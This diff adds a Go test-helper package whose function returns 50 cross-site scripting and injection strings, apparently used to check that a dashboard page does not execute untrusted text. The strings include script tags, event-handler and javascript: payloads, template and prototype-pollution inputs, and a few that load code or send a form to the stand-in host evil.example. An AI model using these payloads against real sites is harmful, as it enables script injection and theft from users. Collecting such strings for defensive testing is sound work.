@@ -1,0 +1,61 @@
+// SPDX-License-Identifier: Apache-2.0
+
+// Package dashboardtest has what tests show on the page.
+package dashboardtest
+
+// Hostile returns texts that somebody writes who wants a page to do what he says: 50 of them. If a page does, it calls
+// the function pwned.
+func Hostile() []string {
+	return []string{
+		`<script>pwned()</script>`,
+		`"><script>pwned()</script>`,
+		`'><script>pwned()</script>`,
+		`</script><script>pwned()</script>`,
+		`</title><script>pwned()</script>`,
+		`</textarea><script>pwned()</script>`,
+		`</style><script>pwned()</script>`,
+		`--><script>pwned()</script>`,
+		`]]><script>pwned()</script>`,
+		`<ScRiPt>pwned()</sCrIpT>`,
+		`<script src=//evil.example/x.js></script>`,
+		`<img src=x onerror=pwned()>`,
+		`"><img src=x onerror=pwned()>`,
+		`' onerror='pwned()`,
+		`" onerror="pwned()`,
+		`" autofocus onfocus="pwned()`,
+		`" style="animation:x" onanimationstart="pwned()`,
+		`<svg onload=pwned()>`,
+		`<svg><script>pwned()</script></svg>`,
+		`<svg><animate onbegin=pwned() attributeName=x dur=1s>`,
+		`<math><mtext><img src=x onerror=pwned()></mtext></math>`,
+		`<iframe src="javascript:pwned()"></iframe>`,
+		`<iframe srcdoc="<script>parent.pwned()</script>"></iframe>`,
+		`<object data="javascript:pwned()"></object>`,
+		`<embed src="javascript:pwned()">`,
+		`<base href="//evil.example/">`,
+		`<link rel=stylesheet href=//evil.example/x.css>`,
+		`<meta http-equiv=refresh content="0;url=javascript:pwned()">`,
+		`<form action="//evil.example/"><button>Explain</button></form>`,
+		`<a href="javascript:pwned()">click</a>`,
+		`javascript:pwned()`,
+		`JaVaScRiPt:pwned()//`,
+		`data:text/html,<script>pwned()</script>`,
+		`vbscript:pwned()`,
+		`<template><script>pwned()</script></template>`,
+		`<noscript><p title="</noscript><img src=x onerror=pwned()>">`,
+		`{{template "view" .}}{{.}}`,
+		"${pwned()}`${pwned()}`",
+		`{{constructor.constructor('pwned()')()}}`,
+		`__proto__`,
+		`constructor`,
+		`%3Cscript%3Epwned()%3C/script%3E`,
+		`&lt;script&gt;pwned()&lt;/script&gt;`,
+		`&#60;script&#62;pwned()&#60;/script&#62;`,
+		`\u003cscript\u003epwned()\u003c/script\u003e`,
+		`'; pwned(); '`,
+		`"; pwned(); "`,
+		`\"-pwned()-\"`,
+		"\u202e<script>\u2066pwned()\u2069</script>",
+		`data: x`,
+	}
+}
